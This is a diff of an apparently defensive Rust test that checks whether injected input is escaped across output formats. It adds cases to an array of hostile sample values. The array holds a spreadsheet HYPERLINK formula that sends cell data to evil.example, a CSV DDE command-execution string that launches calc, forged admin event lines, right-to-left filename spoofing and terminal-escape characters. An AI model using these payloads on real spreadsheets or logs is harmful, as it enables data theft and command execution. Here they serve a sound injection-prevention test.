@@ -8,7 +8,7 @@ use crate::support::{Address, Rig, keys, wait};
 
 /// A formula, a line that looks like an event, colours and a title for the terminal, HTML, Markdown, and text that runs
 /// backwards.
-const EVIL: [&str; 8] = [
+const EVIL: [&str; 11] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
     "\n{\"type\":\"admin.unlock\",\"actor\":\"ops\"}",
     "ann\n{\"type\":\"admin.unlock\"}\n",
@@ -17,6 +17,9 @@ const EVIL: [&str; 8] = [
     "a|b\r\n## Forged heading",
     "[link](http://evil.example)\u{202e}fdp.exe",
     "+1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "-2+3",
+    "\u{301}x\u{9b}31m\u{200b}\u{feff}\u{e0001}",
 ];
 
 /// What of it may be a subject: one line.
@@ -73,7 +76,9 @@ async fn nothing_that_foreigners_write_does_anything_anywhere() {
             assert!(!line.starts_with("## Forged"), "{line}");
         }
     }
-    assert!(outputs[0].contains("'=HYPERLINK") && outputs[0].contains("\\u{1b}[31mred"), "{}", outputs[0]);
+    for shown in ["'=HYPERLINK", "\\u{1b}[31mred", "'@SUM", "'-2+3", "\\u{301}x\\u{9b}31m\\u{200b}\\u{feff}"] {
+        assert!(outputs[0].contains(shown), "{shown}: {}", outputs[0]);
+    }
 
     // For programs they are JSON strings, and so they are in the trail: each line one event.
     let events: Value = serde_json::from_str(&run(&rig, &["events", "--json", "--limit", "1000"])).expect("JSON");
